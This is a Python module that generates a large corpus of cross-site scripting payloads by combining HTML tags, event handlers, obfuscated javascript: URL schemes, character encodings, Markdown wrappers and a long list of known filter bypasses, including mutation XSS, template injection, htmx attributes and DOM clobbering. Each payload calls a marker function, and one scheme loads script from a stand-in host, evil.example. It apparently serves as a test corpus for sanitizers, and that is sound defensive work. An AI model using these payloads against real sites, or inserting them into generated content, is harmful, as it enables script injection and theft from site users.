"""Two thousand and more ways to smuggle a script into text, made by program.

Tags × events × encodings, URL schemes × spellings × Markdown, attribute break-outs,
mutation tricks, and the patterns of the well-known lists. Each calls `pwn()`.
"""

from collections.abc import Iterator
from itertools import product

CALL = "pwn()"
TAGS = [
    "img", "svg", "body", "input", "details", "video", "audio", "iframe", "object",
    "embed", "math", "marquee", "select", "textarea", "a", "div", "style", "link", "form",
    "button", "x", "isindex", "keygen", "template",
]  # fmt: skip
EVENTS = [
    "onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onanimationstart",
    "onpointerenter", "onbegin", "onstart", "onpageshow", "oncopy",
]  # fmt: skip
SHAPES = [
    "<{tag} src=x {event}={call}>",
    "<{tag}/src=x/{event}='{call}' autofocus tabindex=1 open>",
    '<{tag} {event}="{call}" autofocus contenteditable>x</{tag}>',
    "<{tag}\n{event}\n=\n{call}//",
    "\"'><{tag} {event}={call} autofocus>",
]
SCHEMES = [
    "javascript:{call}", "JaVaScRiPt:{call}", "java\tscript:{call}", "java\nscript:{call}",
    " javascript:{call}", "\x01javascript:{call}", "javascript&colon;{call}",
    "&#106;avascript:{call}", "&#x6A;avascript:{call}", "jav&#x09;ascript:{call}",
    "java&NewLine;script:{call}", "javascript://%0a{call}", "vbscript:{call}",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={call}>", "feed:javascript:{call}",
    "view-source:javascript:{call}", "//evil.example/x.js", "blob:{call}",
    "filesystem:{call}", "javascript\u200b:{call}", "\u3000javascript:{call}",
]  # fmt: skip
LINKS = [
    "[x]({url})", "[x](<{url}>)", "![x]({url})", "<{url}>", "[x][r]\n\n[r]: {url}",
    "[x]({url} \"onmouseover={call}\")", "[![x]({url})]({url})", "<a href=\"{url}\">x</a>",
    "<iframe src=\"{url}\"></iframe>", "<form action=\"{url}\"><button>x</button></form>",
    "<object data=\"{url}\"></object>", "<meta http-equiv=refresh content=\"0;url={url}\">",
    "<base href=\"{url}\">", "<svg><a xlink:href=\"{url}\"><text>x</text></a></svg>",
    "<math href=\"{url}\">x</math>", "<div style=\"background:url({url})\">x</div>",
    "<link rel=stylesheet href=\"{url}\">", "<video poster=\"{url}\">",
]  # fmt: skip
ENCODINGS = [
    str,
    lambda t: t.replace("<", "&lt;").replace(">", "&gt;"),
    lambda t: t.replace("<", "&#60;").replace(">", "&#62;"),
    lambda t: t.replace("<", "%3C").replace(">", "%3E"),
    lambda t: t.replace("<", "\\x3c").replace(">", "\\x3e"),
    lambda t: t.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda t: t.replace("<", "<\x00"),
]
MARKDOWN = [
    "{x}", "**{x}**", "`{x}`", "```\n{x}\n```", "> {x}", "- {x}", "~~{x}~~", "[{x}](/)",
    "    {x}", "|{x}|\n|-|\n|{x}|", "{x}\n===", "![{x}](x)", "\\{x}", "&{x};",
]  # fmt: skip
KNOWN = """
<script>{call}</script>
<ScRiPt >{call}</ScRiPt>
<scr<script>ipt>{call}</scr</script>ipt>
<script src=data:,{call}></script>
<script/x>{call}</script
</title><script>{call}</script>
</textarea><script>{call}</script>
</script><script>{call}</script>
--><script>{call}</script>
]]><script>{call}</script>
'-{call}-'
";{call};//
';{call};//
${{{call}}}
{{{{{call}}}}}
{{% {call} %}}
{{{{constructor.constructor('{call}')()}}}}
<svg><script>{call}</script></svg>
<svg><style><img src=x onerror={call}></style></svg>
<svg><animate onbegin={call} attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:{call}><a>x</a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload={call}>#x"/></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={call}&gt;">
<math><annotation-xml encoding="text/html"><img src=x onerror={call}></annotation-xml></math>
<noscript><p title="</noscript><img src=x onerror={call}>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror={call}>
<template><img src=x onerror={call}></template>
<xmp><p title="</xmp><img src=x onerror={call}>">
<listing>&lt;img onerror={call} src=x></listing>
<div hx-on:click="{call}" hx-get="/" hx-trigger="load">x</div>
<div data-hx-on::load="{call}" data-hx-get="/healthz" data-hx-trigger="load">x</div>
<div hx-vals='js:{{x:{call}}}' hx-get="/" hx-trigger=load>x</div>
<a id=htmx name=htmx>x</a><a id=htmx name=config href="javascript:{call}">x</a>
<form id=document><input name=cookie><input name=body></form>
<img name=getElementById><img name=querySelector>
<input type=image src=x onerror={call}>
<isindex type=image src=1 onerror={call}>
<table background="javascript:{call}">
<body background="javascript:{call}">
<img dynsrc="javascript:{call}" lowsrc="javascript:{call}">
<bgsound src="javascript:{call}">
<br size="&{{{call}}}">
<layer src="javascript:{call}"></layer>
<div style="width:expression({call})">
<style>@import'javascript:{call}';</style>
<style>*{{behavior:url({call})}}</style>
<xss style="animation-name:x" onanimationstart="{call}"></xss>
<iframe srcdoc="<script>parent.{call}</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.{call}&lt;/script&gt;"></iframe>
<embed src="data:text/html,<script>{call}</script>">
<marquee onstart={call}>
<video><source onerror={call}></video>
<audio src=x onerror={call}>
<details open ontoggle={call}>
<select autofocus onfocus={call}>
<keygen autofocus onfocus={call}>
<a href="javas\tcript:{call}">x</a>
<a href=\"\x0bjavascript:{call}\">x</a>
<image src=x onerror={call}>
<p/onmouseover={call}>x
<!--[if gte IE 4]><script>{call}</script><![endif]-->
<?xml version="1.0"?><script>{call}</script>
<!DOCTYPE x [<!ENTITY x "<script>{call}</script>">]>&x;
+ADw-script+AD4-{call}+ADw-/script+AD4-
\u202e<script>{call}</script>
<a href="http://x.example/\"onmouseover=\"{call}\"">x</a>
http://x.example/"onmouseover="{call}
http://x.example/<img/src=x/onerror={call}>
mailto:x@x.example?body=<script>{call}</script>
[x](http://x.example/"onmouseover="{call})
[x](javascript:window.onerror={call};throw%201)
[x](data:text/html;charset=utf-7,+ADw-script+AD4-)
[a](<javascript:{call}>)
[a](\\x6aavascript:{call})
![x"onerror="{call}](x)
![x](x"onerror="{call})
<https://x.example/"onmouseover="{call}>
``` <script>{call}</script>
~~~html"onmouseover="{call}\nx\n~~~
[x]: javascript:{call}
"""


def corpus() -> list[str]:
    """Every payload once, in an order that never changes."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    for tag, event, shape in product(TAGS, EVENTS, SHAPES):
        yield shape.format(tag=tag, event=event, call=CALL)
    for scheme, link in product(SCHEMES, LINKS):
        yield link.format(url=scheme.format(call=CALL), call=CALL)
    known = [line.format(call=CALL) for line in KNOWN.splitlines() if line]
    for text, wrap in product(known, MARKDOWN):
        yield wrap.replace("{x}", text)
    for text, encode in product(known, ENCODINGS):
        yield encode(text)
